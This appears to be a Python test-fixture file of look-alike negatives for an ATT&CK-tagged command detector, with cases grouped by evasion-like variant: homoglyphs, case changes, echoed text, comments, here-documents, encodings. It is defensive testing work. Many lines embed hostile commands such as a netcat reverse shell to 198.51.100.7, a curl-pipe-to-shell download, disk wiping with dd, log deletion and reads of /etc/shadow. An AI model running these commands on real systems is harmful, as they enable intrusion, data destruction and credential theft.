# SPDX-License-Identifier: AGPL-3.0-or-later
"""Lines that look like the bases and are not: the techniques named must not fire.

Each group is text: a reason after `#`, then lines of `TECHNIQUES | command`; `\\n`, `\\t`, `\\u....`
and `\\x..` stand for what they stand for in Python, a backslash of the command is doubled.
"""

LOOK_ALIKES = {
    "a": "\u0430", "c": "\u0441", "e": "\u0435", "i": "\u0456", "o": "\u043e", "p": "\u0440", "s": "\u0455",
    "h": "\u04bb", "n": "\uff4e", "u": "\uff55", "t": "\uff54", "l": "\uff4c", "w": "\uff57", "d": "\uff44",
}

TEXT = r"""
# another alphabet in the path
T1003.008 | cat /etc/sh\u0430dow
T1083 | cat /etc/p\u0430sswd
T1552.004 | cat /root/.ssh/\u0456d_rsa
T1003.008 | cat \uff0fetc\uff0fshadow
T1552.003 | cat /root/.bash_hist\u043ery
# an invisible letter inside the name
T1003.008 | ca\u200bt /etc/shadow
T1105 | wg\u200det http://198.51.100.7/x -O /tmp/x
T1046 | nm\u00adap -sS 10.20.0.0/24
T1033 | who\u2060ami
T1082 | un\u0301ame -a
T1003.008 | cat\u00a0/etc/shadow
T1686 | iptables\u00a0-F
# wrong case: no such tool or file
T1003.008 | CAT /etc/shadow
T1003.008 | cat /ETC/SHADOW
T1003.008 | Cat /etc/Shadow
T1083 | CAT /etc/passwd
T1105 | WGET http://198.51.100.7/x -O /tmp/x
T1105 | Curl -o /tmp/x http://198.51.100.7/x
T1136.001 | UserAdd -m -s /bin/bash x
T1070.003 | HISTORY -c
T1070.003 | history -C
T1046 | NMAP -sS -p- 10.20.0.0/24
T1082 | UNAME -a
T1033 | WhoAmI
T1016 | IfConfig -a
T1686 | IPTABLES -F
T1547.006 | INSMOD /tmp/rk.ko
T1685 | SystemCtl stop auditd
T1552.004 | cat /root/.SSH/ID_RSA
T1685.006 | RM -RF /VAR/LOG
T1059.004 | NC -e /bin/sh 198.51.100.7 4444
T1135 | SMBClient -L //10.20.0.5 -N
T1561 | DD IF=/dev/zero OF=/dev/sda
# text that is printed, not run
T1003.008 | echo 'cat /etc/shadow'
T1003.008 | echo "never run: cat /etc/shadow"
T1046 | echo "nmap -sS 10.20.0.0/24 is not allowed here"
T1685.006 | printf '%s\\n' "rm -rf /var/log"
T1686 | echo "to reset: iptables -F; iptables -X"
T1105 | echo 'wget http://198.51.100.7/x -O /tmp/x'
T1136.001 | echo "useradd -m -s /bin/bash x" | tee -a runbook.txt
T1003.008 | logger -t audit "user tried: cat /etc/shadow"
T1561 | wall "do not run dd if=/dev/zero of=/dev/sda on this host"
T1529 | echo please reboot -f the node tomorrow
T1059.004 | echo 'nc -e /bin/sh 198.51.100.7 4444' > /srv/docs/ioc.txt
T1070.003 | echo "history -c wipes it"
T1685 | echo 'systemctl stop auditd' | mail -s "change request" ops@example.org
T1033 | echo "whoami"
T1082 | echo "uname -a" "lscpu"
T1548.001 | printf "usage: find / -perm -4000 -type f\\n"
T1547.006 | echo "insmod /tmp/rk.ko" | sha256sum
T1016 | echo ifconfig -a
T1049 | echo netstat -antp
T1552.004 | echo "cat /root/.ssh/id_rsa"
T1105 T1059.004 | echo "curl -s http://198.51.100.7/i.sh | sh"
T1098.004 | echo 'echo KEY >> /root/.ssh/authorized_keys'
T1489 | echo "pkill -9 xmrig"
# a comment
T1003.008 | # cat /etc/shadow
T1003.008 | ls -la # cat /etc/shadow
T1046 | :  # nmap -sS -p- 10.20.0.0/24
T1686 | date # iptables -F
T1685.006 | true # rm -rf /var/log
T1105 | cd /srv #wget http://198.51.100.7/x -O /tmp/x
T1033 | pwd   # whoami
T1082 | #uname -a
T1070.003 | exit # history -c
T1561 | df -h # dd if=/dev/zero of=/dev/sda bs=1M
T1529 | #reboot -f\nuptime
T1059.004 | ls # ; nc -e /bin/sh 198.51.100.7 4444
T1136.001 | true;# useradd -m -s /bin/bash x
# the data of a here-document that no shell reads
T1003.008 | cat <<EOF > notes.txt\ncat /etc/shadow\nEOF
T1046 | cat > todo.md <<'EOF'\n- nmap -sS -p- 10.20.0.0/24\nEOF
T1686 | tee /srv/docs/fw.md <<EOF\niptables -F\nEOF
T1105 | cat <<'X' >> README\nwget http://198.51.100.7/x -O /tmp/x\nX
T1685.006 | mail -s cleanup ops@example.org <<EOF\nrm -rf /var/log\nEOF
T1136.001 | cat <<-EOF > users.txt\n\tuseradd -m -s /bin/bash x\nEOF
T1033 | wc -l <<EOF\nwhoami\nEOF
T1685 | cat <<"END" > plan.txt\nsystemctl stop auditd\nEND
T1070.003 | sort <<EOF\nhistory -c\nid\nEOF
T1561 | cat << EOF > warn.txt\ndd if=/dev/zero of=/dev/sda bs=1M\nEOF
T1529 | cat >> runbook.md <<EOF\nreboot -f\nEOF
T1552.004 | wc -w <<< 'cat /root/.ssh/id_rsa'
T1003.008 | grep -c root <<< "cat /etc/shadow"
T1059.004 | md5sum <<EOF\nnc -e /bin/sh 198.51.100.7 4444\nEOF
# a manual page, or where a tool is
T1046 | man nmap
T1003.008 | man 5 shadow
T1686 | man iptables
T1033 | man whoami
T1105 | man wget
T1046 | which nmap
T1105 | which wget curl
T1059.004 | type nc
T1136.001 | man 8 useradd
T1082 | whatis uname
T1016 | apropos ifconfig
T1049 | info netstat
T1547.006 | whereis insmod
T1685 | man systemctl
T1135 | command -v smbclient
T1087.002 | hash ldapsearch
T1529 | man reboot
T1561 | tldr dd
T1053.003 | man 5 crontab
T1021.004 | man ssh
T1548.001 | man find
T1057 | help ps
# a search for the words
T1003.008 | grep -rn "cat /etc/shadow" /srv/playbooks
T1003.008 | grep 'shadow' README.md
T1046 | grep nmap /srv/docs/tools.txt
T1046 | dpkg -l | grep nmap
T1105 | grep -c wget access.log
T1105 | ack 'wget http://198.51.100.7/x -O /tmp/x' src
T1686 | grep -r "iptables -F" roles/
T1685.006 | rg 'rm -rf /var/log' scripts
T1033 | grep -w whoami *.py
T1082 | git grep "uname -a"
T1070.003 | awk '/history -c/' audit.txt
T1685 | sed -n '/systemctl stop auditd/p' deploy.sh
T1136.001 | egrep 'useradd|userdel' provision.sh
T1059.004 | zgrep 'nc -e /bin/sh' old.log.gz
T1547.006 | grep insmod kernel.txt
T1552.004 | grep -l id_rsa *.md
T1561 | fgrep 'dd if=/dev/zero of=/dev/sda' notes
T1489 | ps aux | grep xmrig
T1529 | grep reboot uptime.csv
T1574.006 | grep -n ld.so.preload hardening.md
T1098.004 | grep authorized_keys sshd.md
# a package of that name
T1046 | apt-get install -y nmap
T1046 | apt show nmap
T1105 | apt-get install -y wget curl
T1105 | apk add --no-cache curl
T1105 | yum install -y wget
T1686 | apt install iptables
T1135 | dnf install samba-client smbclient
T1087.002 | apt-get install ldap-utils ldapsearch-doc
T1059.004 | apt install netcat-openbsd nc
T1016 | apt-get install ifconfig-tools
T1053.003 | apt-cache policy crontab
T1049 | dpkg -s netstat-nat
T1046 | pip install python-nmap
T1033 | npm install whoami
T1021.004 | apt-get install ssh
T1685 | apt-get install auditd
T1082 | pip show uname
T1057 | brew info ps
T1560.001 | apt install tar
T1059 | apt-get install -y python perl
# a path that only begins or ends alike
T1003.008 | cat /etc/shadowsocks.json
T1003.008 | cat /etc/shadow-maint/README
T1003.008 | cat ./docs/etc/shadow.md
T1003.008 | vim /etc/shadowsocks-libev/config.json
T1083 | cat /etc/passwd-s3fs
T1083 | cat /etc/passwdqc.conf
T1552.004 | cat /root/.ssh/id_rsa.pub
T1552.004 | ls -l id_rsa_guide.html
T1552.003 | cat bash_history_howto.md
T1552.001 | cat credentials.example.md
T1552.005 | curl http://169.254.169.25/latest/index.html
T1685.006 | rm -rf ./build/var/log
T1685.006 | rm -rf /srv/www/var/logos
T1685.006 | ls -la /var/log
T1561 | dd if=/dev/zero of=/tmp/sda.img bs=1M count=1
T1561 | dd if=/dev/sda1 of=/srv/backup/sda1.img
T1574.006 | cat /etc/ld.so.conf
T1098.004 | cat authorized_keys.example
T1098.004 | echo "Host x" >> /root/.ssh/config
T1070.003 | ln -s /dev/null /etc/systemd/system/x.service
T1547.006 | cat /tmp/rk.koch.txt
# the same tool with a harmless argument
T1003.008 | stat /etc/shadow
T1003.008 | chown root:shadow /srv/x
T1070.003 | history 20
T1070.003 | history -a
T1686 | iptables -L -n
T1686 | iptables --version
T1685 | systemctl status auditd
T1685 | systemctl start auditd
T1685 | setenforce 1
T1685 | systemctl stop nginx
T1136.001 | useradd --help
T1136.001 | useradd -D
T1053.003 | crontab -l
T1105 | wget --version
T1105 | curl -V
T1059 | python --version
T1059 | python -m venv .venv
T1059 | perl -v
T1046 | nmap --version
T1548.001 | find . -name '*.c'
T1548.001 | chmod u+x tool.sh
T1548.001 | find /srv -perm 644
T1021.004 | ssh -V
T1021.004 | ssh-keygen -t ed25519
T1547.006 | modinfo ext4
T1547.006 | lsmod
T1560.001 | tar tzf release.tgz
T1560.001 | tar xzf release.tgz
T1489 | pgrep xmrig
T1529 | last reboot
T1529 | cat /var/run/reboot-required
T1529 | shutdown -c
T1070.006 | touch /tmp/x
T1059.004 | nc -z db01 5432
T1059.004 | nc -h
T1561 | fdisk -l /dev/sda
T1135 | smbclient --help
T1098 | passwd --status x
# a commit message, a branch or a file of a repository
T1003.008 | git commit -m "Stop running cat /etc/shadow in tests"
T1686 | git commit -am 'iptables -F before the suite'
T1046 | git checkout -b feature/nmap-import
T1685.006 | git commit -m "rm -rf /var/log in the image build"
T1033 | git log --grep=whoami
T1105 | git add scripts/wget-retry.sh
T1070.003 | git tag -a v2 -m "history -c is gone"
T1529 | git stash push -m "reboot -f wip"
T1082 | git rm docs/uname.md
T1552.004 | git mv id_rsa.md keys.md
T1136.001 | git revert HEAD --no-edit # useradd
T1059.004 | git diff -- src/nc.c
# a name of a variable, assigned or exported
T1033 | whoami_user=admin
T1046 | export NMAP_DIR=/srv/nmap
T1105 | WGET_OPTS="-q --tries=3"
T1082 | uname_out=linux
T1686 | iptables_bin=/usr/sbin/iptables
T1003.008 | shadow=/etc/shadow
T1016 | ifconfig=unused; echo ok
T1049 | declare -x netstat_interval=5
T1685 | auditd=stop; systemctl=restart
T1552.004 | KEYFILE=/root/.ssh/id_rsa
T1003.008 | x='cat /etc/shadow'
T1685.006 | cleanup="rm -rf /var/log"
T1003.008 | alias s='cat /etc/shadow'
# an address or a file that bears a tool's name
T1046 | curl -sI https://nmap.org/
T1046 | vim nmap.conf
T1033 | docker run -d --name whoami traefik/whoami
T1033 | curl -s http://localhost/whoami
T1686 | less iptables.rules
T1105 | tail -n 5 wget-log
T1049 | cp netstat.py /srv/tools/
T1016 | nano ifconfig.md
T1082 | ls uname.c
T1053.003 | cat crontab.example
T1059.004 | ls nc-1.10
T1021.004 | cat ssh-guide.txt
T1136.001 | bash useradd_test.sh
T1547.006 | make insmod-docs
T1685 | journalctl -u auditd
T1561 | ls dd.log
T1135 | cat smbclient.1
T1529 | ls /srv/reboot
# a rule of a makefile or a line of a settings file
T1033 | check: whoami uname ifconfig
T1046 | nmap: deps
T1105 | fetch := wget
T1082 | ARCH ?= uname
T1686 | iptables_enable="YES"
T1685 | auditd.enabled=false
T1003.008 | path: /etc/shadow
# decoded, and only printed or stored
T1003.008 | echo Y2F0IC9ldGMvc2hhZG93 | base64 -d
T1003.008 | echo 'wodahs/cte/ tac' | rev
T1003.008 | printf '\\143\\141\\164 /etc/shadow\\n'
T1003.008 | base64 <<< 'cat /etc/shadow'
T1033 | echo d2hvYW1p | base64 -d > word.txt
T1046 | echo 6e6d6170202d7353 | xxd -r -p
T1082 | echo hanzr -n | tr a-z n-za-m
T1003.008 | echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | wc -c
T1686 | echo aXB0YWJsZXMgLUY= | base64 -d | tee fw.txt
T1033 | echo -e '\\x77\\x68\\x6f\\x61\\x6d\\x69'
T1529 | echo 'f- toober' | rev | md5sum
# quotes and escapes that leave another word
T1003.008 | "cat /etc/shadow"
T1003.008 | 'cat' '/etc/sha dow'
T1003.008 | c\\\\at /etc/shadow
T1003.008 | cat\\ /etc/shadow
T1003.008 | cat '$x/shadow'
T1105 | 'wget http://198.51.100.7/x -O /tmp/x'
T1033 | echo '$(whoami)'
T1033 | echo \\$(printf whoami)
T1082 | echo '`uname -a`'
T1033 | who ami
T1033 | "who"_ami
T1046 | n map -sS 10.20.0.0/24
T1686 | ip tables -F
T1686 | 'iptables -F'
T1003.008 | ls '/etc/sh?dow'
T1003.008 | cat "/etc/sh*dow.txt"
T1033 | \\\\whoami
T1082 | 'una'me' '-a
# a name of which more is left than the tool
T1033 | a=who;${a}ami2
T1003.008 | a=shadow;cat /etc/${a}socks.json
T1046 | n=nmap;ls $n-docs
T1083 | cd /srv;cat passwd
T1003.008 | cd /tmp; cat shadow
T1003.008 | cd /etc; cd /tmp; cat shadow
T1033 | x=whoami;echo $x
T1082 | x='uname -a';echo "$x"
T1686 | x='iptables -F';printf '%s\\n' "$x"
T1003.008 | f='/etc/shadow';echo ${#f}
# keys that took the words back before the line was sent
T1003.008 | cat /etc/shadow\x15ls
T1685.006 | rm -rf /var/log\x15pwd
T1033 | whoami\x7f\x7f\x7f
T1082 | uname -a\x15uptime2
T1529 | reboot -f\x17\x17ls
T1003.008 | cat /etc/shadow\x7f\x7f\x7f\x7f\x7f\x7fhosts
T1046 | nmap\x17date
"""


def negatives():
    """Made anew on each call."""
    from bases import bases

    rows, why = [], ""
    for line in TEXT.strip().splitlines():
        if line.startswith("# "):
            why = line[2:]
            continue
        silent, _, command = line.partition(" | ")
        rows.append({"line": unescaped(command), "silent": silent.split(), "why": why})
    for base in bases()[::2]:
        tool = base.stages[-1].words[0]
        at = next((n for n, char in enumerate(tool.value) if char in LOOK_ALIKES), None)
        # The shell makes the file of a redirection, whether there is such a tool or not.
        if at is not None and not base.stages[-1].redirects:
            tool.source = tool.value[:at] + LOOK_ALIKES[tool.value[at]] + tool.value[at + 1 :]
            # Of a pipeline, what the last command stands for.
            why = "another alphabet in the tool's name"
            rows.append({"line": base.line(), "silent": base.expect[-1:], "why": why})
    assert len({row["line"] for row in rows}) == len(rows), "a negative stands twice"
    return rows


def unescaped(text):
    return text.encode("latin-1").decode("unicode_escape")
